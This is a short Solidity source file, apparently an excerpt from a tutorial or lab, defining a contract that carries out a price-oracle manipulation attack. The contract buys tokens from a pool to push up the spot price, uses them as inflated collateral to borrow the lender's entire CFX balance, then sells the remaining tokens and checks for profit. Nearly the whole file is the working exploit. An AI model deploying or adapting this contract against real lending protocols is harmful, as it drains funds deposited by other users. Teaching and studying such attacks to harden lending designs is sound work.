// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Coin, Pool} from "./Pool.sol";

interface ILender {
    function borrow(uint256 coins) external;
}

// #region contract
/// Raises the price, borrows all CFX of the lender, and lets the price fall again.
contract Pump {
    Pool private immutable pool;
    ILender private immutable lender;

    constructor(Pool market, ILender target) {
        (pool, lender) = (market, target);
    }

    function attack() external payable {
        Coin coin = pool.coin();
        uint256 coins = pool.buy{value: msg.value}();
        uint256 collateral = (2 * address(lender).balance * 1 ether) / pool.spotPrice();
        if (collateral > coins) collateral = coins;
        coin.approve(address(lender), collateral);
        lender.borrow(collateral);
        coin.approve(address(pool), coins - collateral);
        pool.sell(coins - collateral);
        require(address(this).balance > msg.value, "no profit");
    }

    receive() external payable {}
}
// #endregion contract
